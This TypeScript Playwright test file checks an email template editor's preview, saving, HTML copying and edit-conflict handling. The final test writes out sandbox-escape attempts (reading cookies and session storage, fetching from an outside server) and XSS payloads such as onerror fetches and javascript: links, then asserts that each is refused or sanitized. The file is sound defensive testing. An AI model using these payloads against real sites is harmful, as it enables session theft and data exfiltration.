import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { expectAccessibleInBothThemes } from "../support/accessible.ts";
import { Desk } from "../support/desk.ts";
import { expect, test } from "../support/parley.ts";

const editor = (page: Page) => page.getByRole("textbox", { name: "Code" });
const email = (page: Page) => page.frameLocator('iframe[title="The email"]');
const preview = (page: Page) => page.getByRole("region", { name: "Preview" });

/** Replaces the editor's text. */
async function write(page: Page, code: string) {
  await editor(page).focus();
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.insertText(code);
}

const saying = (words: string) => `<Layout>\n  <Body>\n    <H2>${words}</H2>\n  </Body>\n</Layout>`;

test("an agent writes an email, sees its preview, saves it and copies it", async ({ signUp }) => {
  const agent = await signUp("Company", { permissions: ["clipboard-read", "clipboard-write"] });
  const { page } = agent;
  await page.emulateMedia();
  await page.goto("/developers/_templates");

  await test.step("a new account has a default template", async () => {
    await expect(email(page).getByRole("heading", { name: "Welcome to Your company" })).toBeVisible();
    await expect(email(page).getByRole("link", { name: "Unsubscribe from our emails" })).toBeVisible();
    await expect(preview(page)).toContainText("Up to date");
  });

  await test.step("the editor is left with Escape and Tab", async () => {
    await editor(page).focus();
    await page.keyboard.press("Tab");
    await expect(editor(page)).toBeFocused();
    await page.keyboard.press("Escape");
    await page.keyboard.press("Tab");
    await expect(editor(page)).not.toBeFocused();
  });

  await test.step("the preview follows the code, and keeps the last valid email while the code has an error", async () => {
    await write(page, saying("Hello"));
    await expect(email(page).getByRole("heading", { name: "Hello" })).toBeVisible();
    for (const [wrong, problem] of [
      [saying("Bye").replace("</Body>", "</Container>"), /^Line 4: .*corresponding JSX closing tag.*<Body>/],
      [saying("{bye}"), "Line 3: bye is not defined"],
      [saying("<form></form>"), "<form> is not allowed in an email."],
      ["<Body>Bye</Body>", "The email must be one <Layout> element."],
      ["// nothing", "The code must end with the email: <Layout>...</Layout>"],
    ] as const) {
      await write(page, wrong);
      await expect(page.getByRole("status").filter({ hasText: problem })).toBeVisible();
      await expect(preview(page)).toContainText("Not updated because the code has an error");
      await expect(email(page).getByRole("heading", { name: "Hello" })).toBeVisible();
      await expect(preview(page).getByRole("button", { name: "Copy HTML" })).toBeDisabled();
    }
  });

  await test.step("the page is accessible with and without an error, in both themes", async () => {
    await write(page, saying("{bye}"));
    await expect(page.getByText("Line 3: bye is not defined")).toBeVisible();
    await page.emulateMedia();
    await expectAccessibleInBothThemes(page);
  });

  await test.step("Cmd+S or Ctrl+S saves the template from the editor and from the preview", async () => {
    await page.getByLabel("Name").fill("Welcome");
    await write(page, saying("Good morning"));
    await page.keyboard.press("ControlOrMeta+s");
    await expect(page.getByText("Saved", { exact: true })).toBeVisible();
    await expect(email(page).getByRole("heading", { name: "Good morning" })).toBeVisible();
    await write(page, saying("Good evening"));
    await expect(page.getByText("Not saved yet")).toBeVisible();
    await expect(email(page).getByRole("heading", { name: "Good evening" })).toBeVisible();
    await email(page).getByRole("heading", { name: "Good evening" }).click();
    await page.keyboard.press("ControlOrMeta+s");
    await expect(page.getByText("Saved", { exact: true })).toBeVisible();
    await page.reload();
    await expect(page.getByLabel("Name")).toHaveValue("Welcome");
    await expect(editor(page)).toContainText("Good evening");
  });

  await test.step("unsaved text is kept across a reload until the agent discards it", async () => {
    await write(page, saying("Half written"));
    await page.reload();
    await expect(editor(page)).toContainText("Half written");
    await expect(page.getByText("Not saved yet")).toBeVisible();
    await page.getByRole("button", { name: "Discard changes" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Discard changes" }).click();
    await expect(editor(page)).toContainText("Good evening");
    await page.reload();
    await expect(editor(page)).toContainText("Good evening");
    await expect(page.getByText("Not saved yet")).toHaveCount(0);
  });

  await test.step("Copy HTML copies the email with light and dark colors and an unsubscribe link", async () => {
    await expect(preview(page)).toContainText("Up to date");
    await page.getByRole("button", { name: "Copy HTML" }).click();
    await expect(page.getByText("The email as HTML")).toBeVisible();
    const html = await page.evaluate<string>("navigator.clipboard.readText()");
    expect(html).toContain("<title>Welcome</title>");
    expect(html).toMatch(/<h2 style="[^"]+">Good evening<\/h2>/);
    expect(html).toMatch(/<table [^>]*cellpadding="0"[^>]* width="100%"/);
    expect(html).toContain("prefers-color-scheme: dark");
    expect(html).toMatch(/<a [^>]*href="{{unsubscribe_url}}"[^>]*>Unsubscribe from our emails<\/a>/);
    const ground = email(page).locator("body");
    await expect(ground).toHaveCSS("background-color", "rgb(244, 245, 247)");
    await page.getByRole("radiogroup", { name: "Theme of the preview" }).getByText("Dark").click();
    await expect(ground).toHaveCSS("background-color", "rgb(21, 23, 28)");
  });

  await test.step("another agent's changes are not overwritten silently", async () => {
    const api = await agent.api;
    const { version } = (await api.emailTemplate.get())!;
    await api.emailTemplate.save({ name: "Theirs", code: saying("From a colleague"), version });
    await write(page, saying("From me"));
    await page.keyboard.press("ControlOrMeta+s");
    const conflict = page
      .getByRole("alert")
      .filter({ hasText: "This template was saved elsewhere while you were editing it." });
    await conflict.getByRole("button", { name: "Load the saved version" }).click();
    await expect(editor(page)).toContainText("From a colleague");
    await expect(email(page).getByRole("heading", { name: "From a colleague" })).toBeVisible();
    await expect(conflict).toHaveCount(0);
    await api.emailTemplate.save({ name: "Theirs", code: saying("Once more"), version: version + 1 });
    await write(page, saying("From me"));
    await page.keyboard.press("ControlOrMeta+s");
    await conflict.getByRole("button", { name: "Save my version instead" }).click();
    await expect(page.getByText("Saved", { exact: true })).toBeVisible();
    expect((await api.emailTemplate.get())!.code).toBe(saying("From me"));
  });
});

test("a crashed preview recovers after the next change", async ({ signUp }) => {
  const { page } = await signUp("Company");
  const policy = "default-src 'none'; script-src 'unsafe-inline'";
  const silent = `<script>
    parent.postMessage({ type: "ready" }, "*");
    onmessage = ({ data: { id } }) => parent.postMessage({ type: "running", id }, "*");
  </script>`;
  const address = "**/developers/_templates/preview";
  const headers = { "content-security-policy": policy };
  await page.route(address, (route) => route.fulfill({ body: silent, contentType: "text/html", headers }), {
    times: 1,
  });
  await page.goto("/developers/_templates");
  await expect(page.getByText("The preview stopped because the code used too much memory.")).toBeVisible();
  await expect(preview(page)).toContainText("Not updated because the code has an error");
  await write(page, saying("Here again"));
  await expect(email(page).getByRole("heading", { name: "Here again" })).toBeVisible();
  await expect(preview(page)).toContainText("Up to date");
});

/** Tries to escape from a worker or a page in every known way, and writes the results into the email. */
const escaping = (outside: string, dashboard: string) => `
const tried = {};
const attempt = (name, act) => {
  try { tried[name] = "reached " + String(act()); } catch (error) { tried[name] = "refused"; }
};
attempt("storage", () => localStorage.getItem("parley:session"));
attempt("cookies", () => document.cookie);
attempt("dashboard", () => parent.document.title);
attempt("window", () => window.open("${outside}/window"));
attempt("top", () => { top.location.href = "${outside}/top"; });
attempt("database", () => indexedDB.open("parley"));
attempt("script", () => importScripts("${outside}/script"));
attempt("own script", () => importScripts("${dashboard}/widget.js"));
attempt("request", () => {
  const request = new XMLHttpRequest();
  request.open("GET", "${outside}/request", false);
  request.send();
  return request.status;
});
for (const act of [
  () => fetch("${outside}/fetch"),
  () => new WebSocket("${outside.replace("http", "ws")}/socket"),
  () => new EventSource("${outside}/events"),
  () => new Worker("${outside}/worker"),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('${outside}/inner')"]))),
  () => import("${outside}/module.js"),
  () => new BroadcastChannel("parley").postMessage("out"),
]) try { void act()?.catch?.(() => {}); } catch {}
let now = performance.now();
while (performance.now() < now + 300);
<Layout>
  <Paragraph>{Object.values(tried).join(", ")}</Paragraph>
</Layout>`;

/** Sends a forged result in place of the worker. */
const forging = (outside: string) => `
postMessage({ type: "rendered", html: \`
  <p id="forged" onclick="parent.ran = 1">Forged</p>
  <img src="x:" onerror="fetch('${outside}/error')" alt="A picture"><img src="${outside}/picture" alt="">
  <script>parent.postMessage({ type: "save" }, "*")</script>
  <style>@import "${outside}/style";</style><link rel="stylesheet" href="${outside}/link">
  <meta http-equiv="refresh" content="0; url=${outside}/refresh"><base href="${outside}/">
  <iframe src="${outside}/frame"></iframe><object data="${outside}/object"></object>
  <form action="${outside}/form"><button>Send</button></form>
  <svg><use href="${outside}/use" /></svg><div style="background: url(${outside}/background)">Paint</div>
  <a id="out" href="${outside}/click" target="_top">Out</a> <a id="js" href="javascript:parent.ran = 1">Run</a>\` });
while (true);`;

test("a template's code cannot reach the dashboard, the network or another page", async ({
  register,
  browser,
  baseURL,
}) => {
  const desk = await register("Company");
  const asked: string[] = [];
  const outside = createServer((request, response) => {
    asked.push(request.url!);
    response.end();
  }).listen(0, "127.0.0.1");
  await new Promise((listening) => outside.once("listening", listening));
  const there = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  // A separate context, because the frame's content security policy reports refused requests to the console.
  await using machine = await browser.newContext({ baseURL: baseURL! });
  const { page } = await Desk.logIn(await machine.newPage(), desk.credentials);
  const opened: string[] = [];
  page.on("popup", (popup) => opened.push(popup.url()));
  page.on("dialog", (dialog) => {
    if (dialog.type() !== "beforeunload") opened.push(dialog.message());
    void dialog.accept();
  });
  await page.goto("/developers/_templates");
  await expect(preview(page)).toContainText("Up to date");

  await test.step("the code has no access to storage, the page or the network", async () => {
    await write(page, escaping(there, baseURL!));
    await expect(email(page).getByText(/^refused(, refused){8}$/)).toBeVisible();
  });

  await test.step("forged output is sanitized", async () => {
    await write(page, forging(there));
    const frame = email(page);
    await expect(frame.locator("p").filter({ hasText: "Forged" })).toBeVisible();
    expect(await frame.locator("body").innerHTML()).not.toMatch(
      /<(script|style|link|meta|base|iframe|object|form|button|svg)|\son\w+=|javascript:/,
    );
    await frame.getByText("Out").click();
    await frame.getByText("Run").click();
    await expect(frame.locator("p").filter({ hasText: "Forged" })).toBeVisible();
    expect(await page.evaluate("window.ran")).toBeUndefined();
    await expect(page.getByText("Not saved yet")).toBeVisible();
  });

  await test.step("an endless loop is stopped, and the dashboard keeps working", async () => {
    await write(page, "while (true);");
    await expect(page.getByLabel("Name")).toBeEditable();
    await page.getByLabel("Name").fill("Still here");
    await expect(page.getByText("The code ran too long and was stopped.")).toBeVisible();
    await write(page, saying("Well again"));
    await expect(email(page).getByRole("heading", { name: "Well again" })).toBeVisible();
  });

  await test.step("the preview page has no access to the dashboard's storage when opened directly", async () => {
    await page.goto("/developers/_templates/preview");
    expect(await page.evaluate("self.origin")).toBe("null");
    expect(await page.evaluate("(() => { try { return localStorage.length } catch (e) { return e.name } })()")).toBe(
      "SecurityError",
    );
  });

  await page.goto(`${there}/heard`);
  expect([asked.filter((path) => path !== "/favicon.ico"), opened]).toEqual([["/heard"], []]);
  outside.close();
});
